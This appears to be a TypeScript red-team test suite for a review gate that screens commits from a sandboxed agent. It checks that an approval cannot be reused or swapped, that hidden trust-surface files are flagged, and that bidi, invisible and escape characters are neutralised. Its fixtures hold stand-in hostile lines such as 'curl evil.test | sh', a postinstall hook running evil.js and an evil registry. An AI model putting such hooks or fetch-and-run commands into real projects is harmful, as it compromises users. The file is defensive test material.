/** What a person is shown, what an approval is good for, and the road beside the gate. */
import { run } from '../../../core/index.ts';
import type { RedBench, RedBottle } from '../../bench/index.ts';
import type { Row } from '../../row.ts';
import { pushFiles } from '../host-commands.ts';
import { PoisonedRepository } from '../poisoned.ts';

interface Working {
  readonly bottle: RedBottle;
  readonly source: string;
}

async function work(bench: RedBench): Promise<Working> {
  const { source } = await PoisonedRepository.create(bench);
  await run(['git', '-C', source, 'checkout', '-qf', 'main'], { env: { PATH: process.env['PATH'] ?? '', HOME: bench.directory } });
  return { source, bottle: await bench.bottle({ source }) };
}

/** The commit of a branch of the user, empty where there is none. */
async function branchOf(source: string, branch: string): Promise<string> {
  const result = await run(['git', '-C', source, 'rev-parse', '--quiet', '--verify', `refs/heads/${branch}`], {
    env: { PATH: process.env['PATH'] ?? '' },
  });
  return result.stdout.toString('utf8').trim();
}

const refused = async (work_: Promise<unknown>): Promise<boolean> =>
  await work_.then(
    () => false,
    () => true,
  );

/** Path, content, and a word that the review must show */
const TRUST: readonly (readonly [file: string, text: string, shown: string])[] = [
  ['.github/workflows/ci.yml', 'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: curl evil.test | sh\n', 'curl evil.test'],
  ['package.json', '{"scripts":{"postinstall":"node evil.js"}}', 'node evil.js'],
  ['package-lock.json', '{"packages":{"node_modules/evil":{"version":"6.6.6","hasInstallScript":true}}}', 'evil 6.6.6'],
  ['Makefile', 'all:\n\tcurl evil.test\n', 'Makefile'],
  ['Dockerfile', 'RUN curl evil.test\n', 'RUN curl evil.test'],
  ['.vscode/tasks.json', '{}', '.vscode/tasks.json'],
  ['.claude/settings.json', '{}', '.claude/settings.json'],
  ['.npmrc', 'registry=https://evil.test/\n', 'registry=https://evil.test/'],
  ['.husky/pre-commit', 'curl evil.test\n', '.husky/pre-commit'],
  ['.gitattributes', '* filter=evil\n', 'filter=evil'],
];

export const REVIEW_ROWS: readonly Row[] = [
  {
    id: 'G11',
    title: 'other commits under an old approval',
    claim: 'Only the objects that a person approved are taken, once.',
    attack: 'swaps the tip after the approval, uses an approval twice, and guesses a digest',
    defence: 'an approval is bound to branch, commits, tree, policy and what was shown, and marked as used before anything happens',
    control: 'what was approved is taken; a fetch of the branch by hand takes whatever is there',
    async run(trial, bench) {
      const { bottle, source } = await work(bench);
      const { slug } = bottle;
      const { reviews } = bench.terok;
      await pushFiles(bottle, ['good.txt', 'good']);
      const good = await reviews.open(slug);
      await reviews.approve(slug, good.digest);
      await pushFiles(bottle, ['evil.txt', 'evil']);
      trial.attack('apply after the tip was swapped', !(await refused(bench.terok.apply(slug))));
      trial.attack('apply with the digest that was shown before', !(await refused(bench.terok.apply(slug, { approve: good.digest }))));
      trial.attack(
        'apply with the beginning of a digest',
        !(await refused(bench.terok.apply(slug, { approve: (await reviews.open(slug)).digest.slice(0, 4) }))),
      );
      trial.attack('a branch of the user came', (await branchOf(source, `terok/${slug}`)) !== '');
      const { digest, new: tip } = await reviews.open(slug);
      await reviews.approve(slug, digest);
      await bench.terok.apply(slug);
      trial.control('what was approved arrives', (await branchOf(source, `terok/${slug}`)) === tip, tip);
      trial.attack('the same approval again', !(await refused(bench.terok.apply(slug))));
    },
  },
  {
    id: 'G13',
    title: 'changes that make something run elsewhere',
    claim: 'A person sees first what a change makes run, with what changed in it.',
    attack: `hides ${TRUST.length} such files among twenty others`,
    defence: 'the trust surface, by a catalogue of names and by modes',
    control: 'the plain list of changed files does not say what runs',
    async run(trial, bench) {
      const { bottle } = await work(bench);
      const plain = Array.from({ length: 20 }, (_, index) => [`src/part${index}.ts`, `export const a = ${index};\n`]);
      await pushFiles(bottle, plain.flat());
      const before = await bench.terok.reviews.open(bottle.slug);
      trial.control(
        'twenty plain files make nothing run',
        before.surface.findings.length === 0,
        before.surface.findings.map(({ path }) => path),
      );
      await pushFiles(
        bottle,
        TRUST.flatMap(([file, text]) => [file, text]),
      );
      const { surface } = await bench.terok.reviews.open(bottle.slug);
      for (const [file, , shown] of TRUST) {
        const found = surface.findings.find(({ path }) => path === file);
        trial.attack(`${file} goes unseen`, found === undefined || !`${found.path} ${found.details.join(' ')}`.includes(shown), found);
      }
    },
  },
  {
    id: 'G14',
    title: 'text that deceives: control, bidirectional, invisible characters and look-alikes',
    claim: 'What a person reads is what the machine reads.',
    attack: 'puts such characters into contents, names, subjects and authors',
    defence: 'one escaper for all that is shown, and a count of lines that hide something',
    control: 'the plain diff of git holds the characters',
    async run(trial, bench) {
      const { bottle } = await work(bench);
      await pushFiles(bottle, [
        'src/a.ts',
        'if (admin\u202e) {} // \u2066\n\u001b[2J\u001b]52;c;eA==\u0007\nlet p\u0430yment = 1; pass\u200bword\n',
      ]);
      const script = 'cd /work/* && git -c user.name="$1" commit -q --allow-empty -m "$2" && git push -q origin HEAD';
      await bottle.run(['sh', '-c', script, 'sh', 'Eve\u202e\u001b[31m', 'Fix \u001b[2Jtypo\u200b\u202e']);
      const review = await bench.terok.reviews.open(bottle.slug);
      const parts: Buffer[] = [];
      for await (const part of await bench.terok.reviews.diff(bottle.slug)) parts.push(Buffer.from(part));
      const unsafe = /[\u001b\u0007\u202e\u2066\u200b]/;
      trial.control('the bytes of the diff hold them', unsafe.test(Buffer.concat(parts).toString('utf8')));
      trial.attack(
        'anything of the review does',
        unsafe.test(JSON.stringify(review.commits) + JSON.stringify(review.files) + JSON.stringify(review.surface)),
        review.commits,
      );
      const kinds = new Set(review.hidden.hits.flatMap((hit) => hit.kinds));
      for (const kind of ['bidi', 'control', 'homoglyph', 'invisible'] as const)
        trial.attack(`${kind} goes uncounted`, !kinds.has(kind), [...kinds]);
    },
  },
];
